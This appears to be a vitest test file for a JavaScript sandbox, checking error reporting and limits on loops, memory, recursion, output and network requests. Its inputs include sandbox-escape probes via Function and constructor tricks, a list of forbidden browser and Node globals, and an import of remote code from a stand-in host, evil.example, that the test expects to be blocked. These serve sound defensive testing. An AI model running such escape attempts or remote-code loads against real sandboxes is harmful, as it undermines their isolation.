import { expect, test } from 'vitest';
import { followPromises } from './follow-promises.ts';
import type { ConsoleLine } from './host.ts';
import { runScript } from './machine.ts';
import type { MachineOptions } from './machine.ts';

const NOW = Date.UTC(2026, 10, 24, 10, 4, 12);

async function run(script: string, options: Partial<MachineOptions> = {}) {
  const lines: ConsoleLine[] = [];
  const ending = await runScript({
    script: followPromises(script),
    now: () => NOW,
    print: (line) => lines.push(line),
    ask: async () => ({ status: 200, headers: [['Content-Type', 'application/json']], body: '{"here":true}' }),
    ...options,
  });
  return { ending, lines, text: lines.map(({ text }) => text).join('\n') };
}

test('a script prints, waits for its timers and comes to its end', async () => {
  const { ending, text } = await run(`
    setTimeout(() => console.log('later'), 10);
    console.log('now');`);
  expect(ending).toEqual({ kind: 'done', text: '' });
  expect(text).toBe('now\nlater');
});

test('an error says its line, and what it carries', async () => {
  const { ending } = await run(`const claims = undefined;\n\nfunction subject() {\n  return claims.sub;\n}\nsubject();`);
  expect(ending).toMatchObject({ kind: 'failed', text: expect.stringContaining('TypeError'), line: 4 });
  expect((await run(`await null;\nawait Promise.reject(Object.assign(new Error('no'), { code: 'E1' }));`)).ending).toMatchObject({
    kind: 'failed',
    text: "Error: no { code: 'E1' }",
    line: 2,
  });
});

test('a syntax error is told before anything runs', async () => {
  const { ending, text } = await run(`console.log('ran');\nconst broken = ;\n`);
  expect(ending).toMatchObject({ kind: 'failed', text: expect.stringContaining('SyntaxError'), line: 2 });
  expect(text).toBe('');
});

test.each([
  ['a function that is called and not waited for', `async function main() {\n  await null;\n  throw new Error('lost');\n}\nmain();`, 3],
  ['a chain', `\nPromise.resolve(1).then(() => {\n  throw new Error('lost');\n});\nawait new Promise((go) => setTimeout(go, 20));`, 3],
  ['a timer', `setTimeout(async () => {\n  throw new Error('lost');\n}, 1);\nawait new Promise((go) => setTimeout(go, 30));`, 2],
  ['a condition', `const yes = true;\nyes && Promise.reject(new Error('lost'));\nawait new Promise((go) => setTimeout(go, 30));`, 2],
])('a rejected promise that nobody waits for is heard of: %s', async (_what, script, line) => {
  expect((await run(script)).ending).toMatchObject({ kind: 'failed', text: 'Error: lost', line });
});

test('a rejection that is caught later is none', async () => {
  const { ending } = await run(`const p = Promise.reject(new Error('x'));\nawait null;\np.catch(() => {});\ntry { await p } catch {}`);
  expect(ending.kind).toBe('done');
});

test('a promise that nobody settles is told, not waited for', async () => {
  expect((await run('await new Promise(() => {});')).ending).toMatchObject({
    kind: 'failed',
    text: expect.stringContaining('waits for something that never comes'),
  });
});

test.each([
  ['a loop', `let i = 0;\nwhile (true) {\n  i += 1;\n}`],
  ['a loop that catches everything', `for (;;) try { for (;;) {} } catch {}`],
  ['a loop of promises', `const again = () => Promise.resolve().then(again);\nawait again();`],
  ['a costly pattern', `/^(a+)+$/.test('a'.repeat(40) + '!');`],
  ['a loop in a timer', `setTimeout(() => { for (;;) {} }, 1);`],
])('computing without an end is stopped: %s', async (_what, script) => {
  const { ending } = await run(script, { limits: { busy: 300 } });
  expect(ending).toMatchObject({ kind: 'stopped', text: expect.stringContaining('computed for 0.3 seconds') });
});

test('waiting without an end is stopped', async () => {
  const { ending } = await run(`setInterval(() => console.log('tick'), 20);`, { limits: { total: 200 } });
  expect(ending).toMatchObject({ kind: 'stopped', text: expect.stringContaining('still running after 0.2 seconds') });
});

test.each([
  ['arrays', `const all = [];\nfor (;;) all.push(new Array(1000).fill('x'));`],
  ['bytes', `const all = [];\nfor (;;) all.push(new Uint8Array(1e6));`],
  ['one text', `const x = 'x'.repeat(2 ** 29);`],
  ['texts', `const all = [];\nfor (;;) all.push('x'.repeat(1000) + all.length);`],
  ['objects', `let all = null;\nfor (;;) all = { all };`],
])('using up the memory is stopped: %s', async (_what, script) => {
  const { ending } = await run(script, { limits: { memory: 32 * 1024 * 1024 } });
  expect(ending).toMatchObject({ kind: 'stopped', text: expect.stringContaining('32 MB') });
});

test('memory that is asked for again and again is not given, whatever the script makes of it', async () => {
  const before = process.memoryUsage().rss;
  const { ending } = await run(`const all = [];\nfor (;;) try { all.push(new Uint8Array(1e6)); } catch {}`, { limits: { busy: 1000 } });
  expect(ending.kind).toBe('stopped');
  expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024);
});

test.each([
  ['a function', `function f() { return f() + 1; }\nf();`],
  ['JSON', `JSON.parse('['.repeat(1e5));`],
  ['a getter', `const o = { get x() { return this.x; } };\no.x;`],
])('recursion without an end is an error: %s', async (_what, script) => {
  expect((await run(script)).ending).toMatchObject({ kind: 'failed', text: expect.stringMatching(/recursion|stack overflow/) });
});

test('a flood of lines is cut off, and so is a long one', async () => {
  const { ending, lines } = await run(`for (let i = 0; i < 5000; i += 1) console.log(i);`);
  expect(ending.kind).toBe('done');
  expect(lines).toHaveLength(501);
  expect(lines.at(-1)?.text).toContain('The rest is left out');
  const long = await run(
    `console.log('x'.repeat(1e6)); console.log({ deep: 'y'.repeat(1e6), wide: Array.from({ length: 1e5 }, (_, i) => i) });`,
  );
  expect(long.lines.every(({ text }) => text.length < 8_100)).toBe(true);
});

test('a flood of requests is stopped', async () => {
  let sent = 0;
  const ask = async (): Promise<unknown> => {
    sent += 1;
    return { status: 200, headers: [], body: '' };
  };
  const { ending } = await run(`for (;;) await fetch('https://api.lab.test/me');`, { ask, limits: { requests: 20 } });
  expect(ending).toMatchObject({ kind: 'stopped', text: expect.stringContaining('sent 20 requests') });
  expect(sent).toBe(20);
  const all = await run(`for (;;) fetch('https://api.lab.test/me');`, { ask, limits: { requests: 20, busy: 300 } });
  expect(all.ending.kind).toBe('stopped');
  expect(sent).toBe(40);
});

test.each([[`for (;;) setTimeout(() => {}, 1000);`], [`for (;;) await crypto.subtle.digest('SHA-256', new Uint8Array(1));`]])(
  'a flood of other questions is stopped: %s',
  async (script) => {
    expect((await run(script, { limits: { busy: 2000, operations: 50 } })).ending).toMatchObject({ kind: 'stopped' });
  },
);

test('nothing of a page, a browser or Node is there', async () => {
  const names = `window self document parent top frames opener location history navigator localStorage sessionStorage indexedDB caches
    cookieStore WebSocket EventSource XMLHttpRequest WebTransport RTCPeerConnection importScripts Worker SharedWorker BroadcastChannel
    open close postMessage alert process require module Buffer global Deno std os scriptArgs print WebAssembly sandboxHost`;
  const { text } = await run(`
    const found = ${JSON.stringify(names.split(/\s+/))}.filter((name) => name in globalThis);
    const indirect = ['document', 'process', 'fetch'].map((name) => typeof Function('return this')()[name]);
    const out = (async () => {}).constructor('return typeof document')();
    console.log(found.join(), indirect.join(), await out, console.log.constructor('return typeof postMessage')());`);
  expect(text).toBe(' undefined,undefined,function undefined undefined');
});

test('a module that is not there is named, with those that are', async () => {
  const { ending } = await run(`\nimport fs from 'node:fs';`);
  expect(ending).toMatchObject({ kind: 'failed', text: expect.stringContaining("no module 'node:fs'"), line: 2 });
  expect(ending.text).toContain("'oauth4webapi', 'jose', 'browser', 'lab'");
  expect((await run(`const a = 1;\nimport { nothing } from 'jose';`)).ending).toMatchObject({
    kind: 'failed',
    text: expect.stringContaining("'nothing'"),
    line: 2,
  });
  const other = await run(`await import('https://evil.example/x.js');`);
  expect(other.ending).toMatchObject({ kind: 'failed', text: expect.stringContaining('https://evil.example/x.js') });
});

test('the host answers what it does not know with an error, and the script lives on', async () => {
  const { ending, text } = await run(`
    const line = globalThis.sandboxLine;
    for (const [name, ...input] of [['nothing'], ['url', 'x'], ['random', 1e12], ['print', 'loud', { toString: 1 }], ['timer', 'x', 'y'], ['url-set', 'x', 'constructor', 'y']])
      try { line.call(name, ...input); } catch (error) { console.log(error.name); }
    try { await line.ask('eval', 'x'); } catch (error) { console.log(error.name); }
    try { await line.ask('subtle', 'constructor'); } catch (error) { console.log(error.name); }
    try { await line.ask('subtle', 'sign', 'Ed25519', { $key: 7 }, new Uint8Array(1)); } catch (error) { console.log(error.name); }
    try { await crypto.subtle.generateKey({ name: 'RSASSA-PKCS1-v1_5', modulusLength: 65536, publicExponent: new Uint8Array([1, 0, 1]), hash: 'SHA-256' }, true, ['sign']); } catch (error) { console.log(error.name); }
    console.log('lives');`);
  expect(ending.kind).toBe('done');
  expect(text.split('\n').at(-1)).toBe('lives');
  expect(text).toContain('TypeError');
});
